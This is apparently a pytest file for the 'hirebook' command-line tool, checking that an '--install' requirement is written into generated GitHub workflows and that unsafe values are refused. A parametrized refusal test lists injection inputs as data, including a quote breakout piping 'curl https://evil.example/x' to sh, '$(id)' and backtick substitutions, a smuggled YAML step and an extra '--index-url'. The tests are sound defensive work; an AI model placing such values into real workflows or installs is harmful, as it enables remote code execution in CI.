"""What walking README's "Start your agency" as a new agency's operator found, each fixed here.

- hirebook installed from a Git tag or a clone (it is not on the package registry) wrote
  workflows that installed ``hirebook==X.Y.Z`` from the registry: every check of the first push
  failed at its install step. ``init --install REQUIREMENT`` writes what the operator installed
  into every workflow's install step, refusing what a shell or YAML would read as more than one
  requirement (it lands between double quotes in a ``run:`` line).
"""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from hirebook.cli.main import cli

GIT_TAG = "hirebook @ git+https://github.com/acme/hirebook@v0.1.0"
WORKFLOWS = {"checks.yml", "forms.yml", "handbook.yml", "sla.yml"}


def init(runner, target: Path, *args: str):
    return runner.invoke(
        cli, ["init", str(target), "--country", "CN", "--as-of", "2026-11-20", *args]
    )


def install_steps(target: Path) -> dict[str, set[str]]:
    """Each workflow's install commands: ``{file name: {run line}}``."""
    found: dict[str, set[str]] = {}
    for path in sorted((target / ".github/workflows").glob("*.yml")):
        workflow = yaml.safe_load(path.read_text(encoding="utf-8"))
        for job in workflow["jobs"].values():
            for step in job.get("steps", []):
                if "pip install" in step.get("run", ""):
                    found.setdefault(path.name, set()).add(step["run"].strip())
    return found


@pytest.mark.parametrize(
    "requirement",
    [GIT_TAG, "hirebook>=0.1,<0.2", "hirebook@file:///srv/wheels/hirebook-0.1.0.whl"],
)
def test_install_is_what_every_workflow_installs(runner, tmp_path, requirement):
    target = tmp_path / "agency"
    result = init(runner, target, "--install", requirement)
    assert result.exit_code == 0, result.output
    expected = f'python -m pip install "{requirement}"'
    assert install_steps(target) == {name: {expected} for name in WORKFLOWS}
    assert f"the workflows install {requirement}" in result.output


def test_a_url_is_not_said_to_come_from_the_package_registry(runner, tmp_path):
    by_tag = init(runner, tmp_path / "a", "--install", GIT_TAG).output
    by_default = init(runner, tmp_path / "b").output
    assert "package registry" not in by_tag
    assert "the workflows install hirebook==0.1.0 from the package registry." in by_default


@pytest.mark.parametrize(
    "requirement",
    [
        'hirebook==0.1.0"; curl https://evil.example/x | sh; "',  # leaves the quotes
        "hirebook @ git+https://github.com/acme/hirebook@$(id)",  # expanded inside quotes
        "hirebook==`id`",
        "hirebook @ git+https://github.com/acme/hirebook@v1 #x",  # a YAML comment
        "hirebook==0.1.0\n  - run: id",  # a second line of YAML
        "hirebook==0.1.0 --index-url https://evil.example",  # a second argument to pip
        "requests==2.32.0",  # not hirebook
        "hirebook",  # no version: the workflows would drift to whatever is newest
        "",
    ],
)
def test_an_install_the_workflows_cannot_run_as_written_is_refused(runner, tmp_path, requirement):
    target = tmp_path / "agency"
    result = init(runner, target, "--install", requirement)
    assert result.exit_code == 2, result.output
    assert "Invalid value for --install" in result.output
    assert "hirebook @ git+https://github.com/OWNER/hirebook@TAG" in result.output
    assert "Traceback" not in result.output
    assert not target.exists(), "nothing is written"


def test_install_is_refused_in_a_fork(runner, tmp_path):
    fork = tmp_path / "fork"
    (fork / "tooling/hirebook").mkdir(parents=True)
    (fork / "tooling/hirebook/__init__.py").write_text("")
    result = init(runner, fork, "--install", GIT_TAG)
    assert result.exit_code == 2, result.output
    assert "a fork" in result.output and "leave --install out" in result.output
    assert sorted(p.name for p in fork.iterdir()) == ["tooling"]
